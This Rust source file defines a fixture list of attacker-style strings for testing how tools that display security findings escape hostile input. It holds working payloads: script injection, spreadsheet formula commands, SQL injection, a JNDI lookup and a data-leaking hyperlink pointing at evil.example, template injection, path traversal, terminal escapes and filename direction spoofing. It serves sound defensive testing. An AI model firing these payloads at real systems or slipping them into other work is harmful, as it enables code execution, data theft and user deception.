//! Text as an attacker would write it: what a finding may carry in a user agent, a domain, a role or a tag.

/// Markup, mentions, formulas, control codes, direction overrides and plain foreign names, for tests of whatever
/// shows findings to people. Some of it is put into a small share of the generated findings.
pub fn hostile() -> &'static [&'static str] {
    &[
        "<script>alert(document.domain)</script>",
        "\"><img src=x onerror=alert(1)>",
        "=HYPERLINK(\"https://evil.example/?\"&A1,\"open\")",
        "+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|'/C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "<!channel> <!here> <@U012AB3CD>",
        "<https://evil.example|AWS console>",
        "*bold* _it_ ~no~ `code` ```block```",
        "[click](javascript:alert(1))",
        "\u{1b}[31mred\u{1b}[0m\u{1b}]0;owned\u{7}",
        "line one\r\nline two\tand a tab",
        "moc.live\u{202e}gnp.exe\u{202c}",
        "zero\u{200b}width\u{feff}joiner\u{200d}",
        "Robert'); DROP TABLE findings;--",
        "' OR 1=1 --",
        "${jndi:ldap://evil.example/a}",
        "{{7*7}} <%= 7*7 %> #{7*7}",
        "../../../../etc/passwd",
        "a\"quoted\"role\\with\\backslashes",
        "Zoë Åström",
        "株式会社サンプル",
        "роль-администратора",
        "🏴‍☠️ pirate 🦜",
        "%00%0d%0aSet-Cookie:x=1",
        "nul\u{0}inside",
        "| pipe | table | row |",
        "h{color:red} |{code}| [~admin]",
    ]
}
